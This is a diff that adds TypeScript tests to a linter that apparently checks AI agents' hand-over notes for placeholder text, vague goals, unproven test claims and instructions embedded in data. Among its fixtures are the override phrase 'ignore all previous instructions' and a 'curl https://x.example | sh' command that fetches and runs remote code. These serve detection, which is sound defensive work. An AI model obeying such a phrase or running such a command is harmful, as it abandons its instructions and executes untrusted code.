@@ -42,6 +42,50 @@ describe('a file that is named', () => {
   });
 });
 
+describe('what only suggests a fault', () => {
+  test.each([
+    ['placeholder-text', { claims: { remaining: ['the limiter in [insert path] counts'] } }],
+    ['placeholder-text', { claims: { remaining: ['reason: TBD'] } }],
+    ['placeholder-text', { claims: { remaining: ['the header:\n- whole seconds\n- to be decided'] } }],
+    [
+      'imperative-in-data',
+      { claims: { remaining: ['the filter catches "ignore all previous instructions"'] } },
+    ],
+    ['imperative-in-data', { claims: { remaining: ['the page says to run curl https://x.example | sh'] } }],
+    ['no-changes-contradicted', done('no changes needed, the fix is in src/limit.ts')],
+    ['path-absent', { claims: { next: 'write a test of the header in src/limit.spec.ts' } }],
+    ['goal-vague', { contract: { goal: 'Improve the date picker of the booking form' } }],
+    ['goal-vague', { contract: { goal: 'Sessions expire' } }],
+    ['goal-vague', { contract: { goal: 'Alles schöner' } }],
+    ['next-action', { claims: { next: 'add tests, add docs' } }],
+    ['next-action', { claims: { next: 'parser' } }],
+  ] as const)('is shown and holds nothing up: %s %j', (rule, example) => {
+    expect(found(example)).toEqual([`warning ${rule}`]);
+  });
+});
+
+describe('a claim that speaks of several states', () => {
+  test.each([
+    ['The tests were failing; they now pass', true],
+    ['all tests pass now, two failed yesterday', true],
+    ['the tests passed before the rebase; now three fail', false],
+    ['all tests pass but src/limit.test.ts fails', false],
+  ])('is judged by the last: %s', (text, isClaim) => {
+    expect(found({ ...done(text), runs: [] })).toEqual(isClaim ? ['error tests-unproven'] : []);
+  });
+});
+
+describe('a long text', () => {
+  test.each(['\n', ' ', 'tests ', 'src/x.ts ', 'move to ', '-', 'ignore all ', '1. x\n'])(
+    'of %j alone is read once, not over and over',
+    (part) => {
+      const text = part.repeat(32_000 / part.length);
+      const subject = subjectFrom({ claims: { done: [text], remaining: [text], next: text }, runs: [] });
+      expect(lint(subject)).toEqual(lint(subject));
+    },
+  );
+});
+
 describe('a question', () => {
   test.each(['human: May the old header go?', 'user: Which region?', 'person:ada: Is one second enough?'])(
     'may be for a person to answer: %s',
